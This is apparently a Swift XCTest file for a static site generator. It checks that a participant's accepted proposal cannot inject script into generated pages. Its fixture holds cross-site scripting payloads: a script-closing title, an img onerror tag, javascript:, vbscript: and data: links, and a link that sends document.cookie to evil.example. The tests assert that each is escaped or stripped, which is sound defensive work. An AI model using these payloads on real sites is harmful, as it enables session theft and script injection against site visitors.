import Foundation
import XCTest
@testable import SiteKit

/// A participant's proposal, accepted by a moderator on a site that allows its communicators raw HTML: whatever
/// its words hold reaches the page as text, and never fails the build.
final class ContributionMarkupTests: XCTestCase {
    static let hostileTitle = "</script><script>alert(1)</script><!--"

    static let site = """
    -- content/site.yaml --
    title: Test City
    base_url: https://example.org/
    collector_url: https://vote.example.org/
    default_language: en
    allow_html: true
    languages:
      - code: en
        name: English
    -- content/_index.en.md --
    ---
    title: Home
    ---
    -- content/about.en.md --
    ---
    title: About
    ---
    Our <b class="lead">own</b> words.
    -- content/city/_index.en.md --
    ---
    title: City ideas
    kind: process
    phases:
      - id: open
        title: Open
        start: 2026-01-01
        end: 2026-12-31
        actions: [propose]
    ---
    -- content/city/ideas/_index.en.md --
    ---
    title: Ideas
    component: proposals
    submissions: true
    ---
    -- content/city/ideas/hostile.en.md --
    ---
    title: "\(hostileTitle)"
    author: "Mallory"
    date: "2026-05-01"
    moderation: accepted
    receipt: "\(String(repeating: "ab", count: 32))"
    ---
    Please [read the full text](javascript:fetch('//evil.example/'+document.cookie)) and see ![the plan](data:image/svg+xml;base64,PHN2Zy8+).

    <img src=x onerror=alert(1)>

    Also <a href="jav&#x61;script:alert(2)">this</a>, [that](vbscript:x) and [a page that is not there](missing.md).
    """

    private static var built: (SiteFixture, BuildReport)?

    private func site() throws -> (SiteFixture, BuildReport) {
        if let built = Self.built { return built }
        let fixture = try SiteFixture(Self.site)
        let built = (fixture, try fixture.build())
        Self.built = built
        return built
    }

    override class func tearDown() { built?.0.remove() }

    func testAParticipantsScriptLinksAndImagesShowOnlyTheirWordsAndFailNothing() throws {
        let (site, report) = try site()
        XCTAssertEqual(report.warnings.filter { $0.file.hasSuffix("hostile.en.md") }, [])
        let page = try site.read("en/city/ideas/hostile/index.html")
        XCTAssertContains(page, "Please read the full text and see the plan.")
        XCTAssertContains(page, "that and <a href=\"missing.md\">a page that is not there</a>")
        XCTAssertNotContains(page, "href=\"javascript")
        XCTAssertNotContains(page, "href=\"vbscript")
        XCTAssertNotContains(page, "data:image")
    }

    func testAParticipantsRawHTMLStaysTextWhateverAllowHTMLSays() throws {
        let (site, _) = try site()
        let page = try site.read("en/city/ideas/hostile/index.html")
        XCTAssertContains(page, "&lt;img src=x onerror=alert(1)&gt;")
        XCTAssertContains(page, "&lt;a href=&quot;jav&amp;#x61;script:alert(2)&quot;&gt;this&lt;/a&gt;")
        XCTAssertNotContains(page, "<img src=x")
        XCTAssertNotContains(page, "<a href=\"jav")
        // The communicators' own HTML still passes: the site does allow it.
        XCTAssertContains(try site.read("en/about/index.html"), "Our <b class=\"lead\">own</b> words.")
    }

    func testAParticipantsTitleCannotCloseTheScriptBlockItIsListedIn() throws {
        let (site, _) = try site()
        let listing = try site.read("en/city/ideas/index.html")
        let open = "<script type=\"application/json\" id=\"proposal-index\">"
        let start = try XCTUnwrap(listing.range(of: open))
        let end = try XCTUnwrap(listing.range(of: "</script>", range: start.upperBound..<listing.endIndex))
        let index = try JSONSerialization.jsonObject(with: Data(listing[start.upperBound..<end.lowerBound].utf8)) as? [[String: String]]
        XCTAssertEqual(index?.map { $0["title"] }, [Self.hostileTitle])
        XCTAssertNotContains(listing, "<script>alert(1)")
        XCTAssertNotContains(try site.read("en/city/ideas/hostile/index.html"), "<script>alert(1)")
    }
}
